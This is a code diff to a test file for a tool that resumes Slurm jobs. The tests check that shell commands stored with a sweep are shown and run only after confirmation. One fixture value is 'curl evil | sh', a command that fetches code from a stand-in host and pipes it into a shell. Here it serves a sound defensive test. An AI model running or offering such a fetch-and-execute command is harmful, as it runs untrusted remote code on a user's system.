@@ -19,15 +19,17 @@ afterEach(() => end())
 const resume = (more: object) =>
   resumeOnSlurm(basename(folder), { store: dirname(dirname(folder)), slurm: true, detach: true, ...more })
 
-test('lines that the store would have run are shown, and run only once somebody has agreed', async () => {
-  await expect(resume({})).rejects.toThrow('resume: nobody is there to be asked. Say them again, or --yes.')
+test('shell lines stored with a sweep are shown, and run only after confirmation', async () => {
+  await expect(resume({})).rejects.toThrow(
+    'resume: cannot ask for confirmation, as standard input is not a terminal. Give the options again, or use --yes.',
+  )
   expect(vi.mocked(console.error).mock.calls.join()).toContain("--before 'curl evil | sh'")
   expect(readSlurmRecord(folder)?.job).toBe('17')
   await resume({ yes: true })
   expect(readSlurmRecord(folder)).toMatchObject({ job: '18', options: { before: ['curl evil | sh'] } })
 })
 
-test('what is said again is the person’s own', async () => {
+test('options given again need no confirmation', async () => {
   await resume({ before: ['module load nodejs'] })
   expect(readSlurmRecord(folder)).toMatchObject({ job: '18', options: { before: ['module load nodejs'] } })
 })
